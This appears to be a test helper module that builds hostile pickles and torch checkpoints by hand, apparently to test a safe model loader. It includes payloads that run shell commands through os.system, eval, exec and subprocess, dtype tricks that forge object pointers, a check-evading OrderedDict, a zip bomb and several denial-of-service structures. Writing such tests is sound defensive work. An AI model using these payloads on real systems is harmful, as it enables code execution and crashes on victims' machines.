"""Hand-written pickles an attacker would hand a user, byte by byte.

Each helper returns the opcodes of one object (no ``PROTO``/``STOP``);
:func:`wrap` makes a whole pickle of them.
"""
import io
import pickle
import struct
import zipfile

import torch

HB = b'mmengine.logging.history_buffer\nHistoryBuffer\n'


def wrap(body: bytes, proto: int = 2) -> bytes:
    """A whole pickle: ``PROTO`` + body + ``STOP``."""
    return pickle.PROTO + bytes([proto]) + body + pickle.STOP


def text(value: str) -> bytes:
    """``BINUNICODE``."""
    data = value.encode()
    return pickle.BINUNICODE + struct.pack('<I', len(data)) + data


def raw(value: bytes) -> bytes:
    """``BINBYTES``."""
    return pickle.BINBYTES + struct.pack('<I', len(value)) + value


def glob(module: str, name: str) -> bytes:
    """``GLOBAL module name``."""
    return pickle.GLOBAL + f'{module}\n{name}\n'.encode()


def call(module: str, name: str, *args: bytes) -> bytes:
    """``module.name(*args)`` through ``REDUCE``."""
    return glob(module, name) + pickle.MARK + b''.join(args) + \
        pickle.TUPLE + pickle.REDUCE


def getattr_(obj: bytes, name: str) -> bytes:
    """``getattr(obj, name)``."""
    return glob('__builtin__', 'getattr') + obj + text(name) + \
        pickle.TUPLE2 + pickle.REDUCE


def integer(value: int) -> bytes:
    """``LONG1``/``BININT``."""
    if 0 <= value < 2**31:
        return pickle.BININT + struct.pack('<i', value)
    data = value.to_bytes((value.bit_length() + 8) // 8, 'little', signed=True)
    return pickle.LONG1 + bytes([len(data)]) + data


def history_buffer(statistics: bytes, extra: bytes = b'') -> bytes:
    """A ``HistoryBuffer`` whose state maps ``mean`` to ``statistics``
    (``HistoryBuffer.__setstate__`` copies it into a process-wide table)."""
    return (glob('mmengine.logging.history_buffer', 'HistoryBuffer') +
            pickle.EMPTY_TUPLE + pickle.NEWOBJ + pickle.EMPTY_DICT +
            text('statistics_methods') + pickle.EMPTY_DICT + text('mean') +
            statistics + pickle.SETITEM + extra + pickle.SETITEM +
            pickle.BUILD)


def planted_globals() -> bytes:
    """``mean`` -> ``getattr(HistoryBuffer.update, '__globals__')``."""
    return history_buffer(
        getattr_(getattr_(pickle.GLOBAL + HB, 'update'), '__globals__'))


def ordered_dict_hiding_items() -> bytes:
    """An ``OrderedDict`` of ``mean -> max`` whose instance attribute ``items``
    hides the entries from a check that calls ``.items()``."""
    return (glob('collections', 'OrderedDict') + pickle.EMPTY_TUPLE +
            pickle.REDUCE + text('mean') +
            getattr_(pickle.GLOBAL + HB, 'max') + pickle.SETITEM +
            pickle.EMPTY_DICT + text('items') + glob('builtins', 'dict') +
            pickle.SETITEM + pickle.BUILD)


def _object_field_state() -> bytes:
    """A dtype state (version 3) with one object field ``f0`` and flags 0,
    which tells numpy the dtype holds no object references."""
    return (pickle.MARK + pickle.BININT1 + b'\x03' + text('|') + pickle.NONE +
            pickle.MARK + text('f0') + pickle.TUPLE + pickle.EMPTY_DICT +
            text('f0') + glob('numpy', 'dtype') + text('O8') +
            pickle.NEWFALSE + pickle.NEWTRUE + pickle.TUPLE3 + pickle.REDUCE +
            pickle.BININT1 + b'\x00' + pickle.TUPLE2 + pickle.SETITEM +
            pickle.BININT1 + b'\x08' + pickle.BININT1 + b'\x01' +
            pickle.BININT1 + b'\x00' + pickle.TUPLE)


def _array_of(dtype: bytes, data: bytes, spell=None) -> bytes:
    """``_reconstruct(ndarray, ...)`` + ``BUILD`` of one element of ``dtype``
    holding ``data`` (``spell`` writes the bytes)."""
    spell = spell or raw
    return (glob('numpy._core.multiarray', '_reconstruct') +
            glob('numpy', 'ndarray') + pickle.BININT1 + b'\x00' +
            pickle.TUPLE1 + spell(b'b') + pickle.TUPLE3 + pickle.REDUCE +
            pickle.MARK + pickle.BININT1 + b'\x01' + pickle.BININT1 + b'\x01' +
            pickle.TUPLE1 + dtype + pickle.NEWFALSE + spell(data) +
            pickle.TUPLE + pickle.BUILD)


def object_dtype_array() -> bytes:
    """A numpy array whose dtype state has an object field and flags 0:
    numpy would read the 8 attacker bytes as an object pointer."""
    dtype = (
        glob('numpy', 'dtype') + text('V8') + pickle.NEWFALSE +
        pickle.NEWTRUE + pickle.TUPLE3 + pickle.REDUCE +
        _object_field_state() + pickle.BUILD)
    return _array_of(dtype, struct.pack('<Q', 0x4141414141414141))


def dtype_class_state() -> bytes:
    """numpy 2's concrete dtype class given a state with an object field."""
    return (glob('numpy.dtypes', 'VoidDType') + text('V8') + pickle.TUPLE1 +
            pickle.NEWOBJ + pickle.MARK + pickle.BININT1 + b'\x03' +
            text('|') + pickle.NONE + pickle.NONE + pickle.NONE +
            pickle.BININT1 + b'\x08' + pickle.BININT1 + b'\x01' +
            pickle.BININT1 + b'\x3f' + pickle.TUPLE + pickle.BUILD)


def latin1_bytes(value: bytes) -> bytes:
    """``_codecs.encode(text, 'latin1')``: bytes as protocol 2 (and torch's own
    unpickler) spell them."""
    return glob('_codecs', 'encode') + text(value.decode('latin-1')) + \
        text('latin1') + pickle.TUPLE2 + pickle.REDUCE


def float_dtype_class_with_object_field() -> bytes:
    """An array whose dtype is ``numpy.dtypes.Float64DType()`` restored from a
    state with an object field and flags 0 (torch's allow-list of dtype classes
    admitted it; the old loader returned the array)."""
    dtype = (
        glob('numpy.dtypes', 'Float64DType') + pickle.EMPTY_TUPLE +
        pickle.NEWOBJ + _object_field_state() + pickle.BUILD)
    return _array_of(dtype, b'A' * 8, spell=latin1_bytes)


def set_function_attributes() -> bytes:
    """``BUILD`` on numpy's ``_frombuffer``: renames it for the process."""
    return (glob('numpy._core.numeric', '_frombuffer') + pickle.EMPTY_DICT +
            text('__qualname__') + text('pwned') + pickle.SETITEM +
            pickle.BUILD)


def bytearray_of_size(size: int) -> bytes:
    """``bytearray(size)``: a huge allocation from a tiny file."""
    return glob('__builtin__', 'bytearray') + integer(size) + \
        pickle.TUPLE1 + pickle.REDUCE


def codec(name: str, payload: str) -> bytes:
    """``_codecs.encode(payload, name)``."""
    return glob('_codecs', 'encode') + text(payload) + text(name) + \
        pickle.TUPLE2 + pickle.REDUCE


def declared_past_end(size: int = 2**40) -> bytes:
    """``BINBYTES8`` declaring ``size`` bytes that are not there."""
    return b'\x8e' + struct.pack('<Q', size) + b'abc'


def nested_lists(depth: int) -> bytes:
    """``[[[...]]]`` ``depth`` deep."""
    return pickle.EMPTY_LIST * depth + pickle.APPEND * (depth - 1)


def self_containing_list() -> bytes:
    """``l = []; l.append(l)``."""
    return (pickle.EMPTY_LIST + pickle.BINPUT + b'\x00' + pickle.BINGET +
            b'\x00' + pickle.APPEND)


def colliding_keys(count: int) -> bytes:
    """A dict whose integer keys all hash alike (``k * (2**61 - 1)``)."""
    body = pickle.EMPTY_DICT + pickle.MARK
    for k in range(1, count + 1):
        body += integer(k * (2**61 - 1)) + pickle.NONE
    return body + pickle.SETITEMS


def wrong_constructor_call() -> bytes:
    """``OrderedDict(1, 2, 3)``."""
    return call('collections', 'OrderedDict', pickle.BININT1 + b'\x01',
                pickle.BININT1 + b'\x02', pickle.BININT1 + b'\x03')


def code_payloads(cmd: str) -> dict:
    """Bodies that run shell command ``cmd`` (or reach a function's globals) if
    unpickled, by name."""
    return {
        'os.system':
        call('os', 'system', text(cmd)),
        'posix.system':
        call('posix', 'system', text(cmd)),
        'eval':
        call('builtins', 'eval', text(f'__import__("os").system("{cmd}")')),
        'exec':
        call('builtins', 'exec', text(f'import os; os.system("{cmd}")')),
        'subprocess':
        call('subprocess', 'getoutput', text(cmd)),
        'getattr chain':
        getattr_(getattr_(pickle.GLOBAL + HB, '__init__'), '__globals__'),
    }


def replace_records(data: bytes, edit) -> bytes:
    """A copy of the zip archive ``data`` whose records are ``edit(name,
    body)``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, \
            zipfile.ZipFile(out, 'w') as dst:
        for info in src.infolist():
            dst.writestr(info, edit(info.filename, src.read(info.filename)))
    return out.getvalue()


def torch_zip(payload: bytes, path=None) -> bytes:
    """A torch zip checkpoint (real records) whose ``data.pkl`` is ``payload``;
    written to ``path`` if given."""
    buffer = io.BytesIO()
    torch.save({'state_dict': {'w': torch.ones(2)}}, buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src, \
            zipfile.ZipFile(out, 'w') as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith('/data.pkl'):
                data = payload
            dst.writestr(info, data)
    if path is not None:
        with open(path, 'wb') as f:
            f.write(out.getvalue())
    return out.getvalue()


def zip_bomb(path, size: int = 380 << 20) -> None:
    """A torch-looking archive with one deflated record of ``size`` zeros (a
    few hundred kilobytes on disk)."""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as dst:
        dst.writestr('archive/data.pkl', wrap(pickle.EMPTY_DICT))
        with dst.open('archive/data/0', 'w') as f:
            block = bytes(1 << 20)
            for _ in range(size >> 20):
                f.write(block)


def shared_tuple_key(width: int, levels: int = 4, as_set=False) -> bytes:
    """A dict (or a frozenset) whose one key is a tuple of ``width``

    references to one tuple, ``levels`` deep: ``width ** levels`` members to
    check and hash, written in about ``10 * width`` bytes.
    """
    key = pickle.MARK + (pickle.BININT1 + b'\x01') * width + pickle.TUPLE
    for level in range(1, levels):
        key += pickle.BINPUT + bytes([level]) + pickle.POP + pickle.MARK + \
            (pickle.BINGET + bytes([level])) * width + pickle.TUPLE
    if as_set:
        return glob('builtins', 'frozenset') + key + pickle.TUPLE1 + \
            pickle.TUPLE1 + pickle.REDUCE
    return pickle.EMPTY_DICT + key + pickle.NONE + pickle.SETITEM


def doubling_tuple(depth: int, leaf: bytes = b'K\x01') -> bytes:
    """``t = (t, t)`` ``depth`` times: a repr of ``2 ** depth`` leaves."""
    return leaf + (pickle.DUP + pickle.TUPLE2) * depth


def shared_lists(width: int, levels: int, leaf: bytes = b'K\x01') -> bytes:
    """A list of ``width`` references to one list, ``levels`` deep, whose
    innermost list holds ``width`` times ``leaf``: ``width ** levels`` leaves
    for a walk that does not remember what it saw."""
    body = pickle.EMPTY_LIST + pickle.MARK + leaf * width + pickle.APPENDS
    for level in range(1, levels):
        body += pickle.BINPUT + bytes([level]) + pickle.POP + \
            pickle.EMPTY_LIST + pickle.MARK + \
            (pickle.BINGET + bytes([level])) * width + pickle.APPENDS
    return body


def ordered_dict_with_metadata(metadata: bytes) -> bytes:
    """``OrderedDict()`` whose ``BUILD`` state sets ``_metadata`` (as torch
    state dicts do) to ``metadata``."""
    return (glob('collections', 'OrderedDict') + pickle.EMPTY_TUPLE +
            pickle.REDUCE + pickle.EMPTY_DICT + text('_metadata') + metadata +
            pickle.SETITEM + pickle.BUILD)


def storage_pid(kind: bytes = b'', key: str = '0', numel: int = 2) -> bytes:
    """``BINPERSID ('storage', kind, key, 'cpu', numel)``: a zip storage record
    (``kind`` defaults to ``torch.FloatStorage``)."""
    kind = kind or glob('torch', 'FloatStorage')
    return (pickle.MARK + text('storage') + kind + text(key) + text('cpu') +
            integer(numel) + pickle.TUPLE + pickle.BINPERSID)


def tensor_v2(size: bytes, stride: bytes, offset: bytes = b'K\x00') -> bytes:
    """``_rebuild_tensor_v2`` over storage record ``0`` (two floats in
    :func:`torch_zip`'s archive) with the given argument opcodes."""
    return call(
        'torch._utils', '_rebuild_tensor_v2', storage_pid(), offset, size,
        stride, pickle.NEWFALSE,
        glob('collections', 'OrderedDict') + pickle.EMPTY_TUPLE +
        pickle.REDUCE)


def ints(*values: int) -> bytes:
    """A tuple of integers."""
    return pickle.MARK + b''.join(integer(v) for v in values) + pickle.TUPLE


def set_zip_flags(data: bytes, bits: int) -> bytes:
    """A copy of the zip archive ``data`` with general-purpose flag ``bits``
    (e.g. 0x1: encrypted) set on every record, in the local headers and the
    central directory."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        infos = archive.infolist()
    for info in infos:
        out[info.header_offset + 6] |= bits
    central = out.find(b'PK\x01\x02')
    while central >= 0:
        out[central + 8] |= bits
        central = out.find(b'PK\x01\x02', central + 4)
    return bytes(out)
